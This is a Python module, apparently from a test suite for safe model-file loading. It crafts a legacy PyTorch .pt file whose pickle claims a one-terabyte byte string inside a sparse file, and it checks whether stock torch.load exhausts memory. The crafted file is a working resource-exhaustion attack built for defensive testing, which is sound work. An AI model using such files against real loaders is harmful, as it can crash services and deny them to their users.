"""A torch file whose pickle has a terabyte, in a sparse file."""

from __future__ import annotations

import struct
from pathlib import Path

from attacks._limits import stock_fails
from attacks._opening import error_of_opening as refused

__all__ = ["WHAT", "make", "refused", "stock"]

WHAT = "the pickle of a .pt file of the old form has a value of a terabyte, which the sparse file has"


def make(folder: Path) -> Path:
    import torch

    path = folder / "model.pt"
    torch.save({}, path, _use_new_zipfile_serialization=False)
    data = path.read_bytes()
    with path.open("wb") as stream:
        # Behind the magic number, the protocol and the system's sizes comes the pickle of the values: an empty dict.
        stream.write(data[: data.rindex(b"}q\x00.")])
        stream.write(b"\x8e" + struct.pack("<Q", 1 << 40))  # BINBYTES8
        stream.truncate(1 << 41)
    return path


def stock(path: Path) -> bool | None:
    said = stock_fails("torch.load(sys.argv[1], weights_only=False)", path, imports="import torch")
    return any(word in said for word in ("MemoryError", "alloc", "memory", "killed"))
